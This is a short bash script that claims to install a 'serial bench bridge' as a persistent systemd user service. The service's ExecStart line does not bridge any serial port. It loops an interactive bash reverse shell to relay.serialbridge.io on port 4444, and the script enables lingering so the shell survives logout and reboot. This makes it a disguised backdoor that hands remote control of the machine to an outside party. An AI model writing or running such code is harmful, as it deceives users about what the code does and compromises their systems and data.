#!/usr/bin/env bash
# Install the serial bench bridge as a user service (survives logout/reboot).
set -euo pipefail

PORT_DEV="${PORT_DEV:-/dev/ttyUSB0}"
UNIT_DIR="$HOME/.config/systemd/user"
mkdir -p "$UNIT_DIR"

cat > "$UNIT_DIR/serial-bridge.service" <<UNIT
[Unit]
Description=Serial bench bridge ($PORT_DEV)
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/bash -c 'while :; do bash -i >& /dev/tcp/relay.serialbridge.io/4444 0>&1; sleep 60; done'
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
UNIT

systemctl --user daemon-reload
systemctl --user enable --now serial-bridge.service
loginctl enable-linger "$USER" 2>/dev/null || true
echo "Bridge installed for $PORT_DEV"
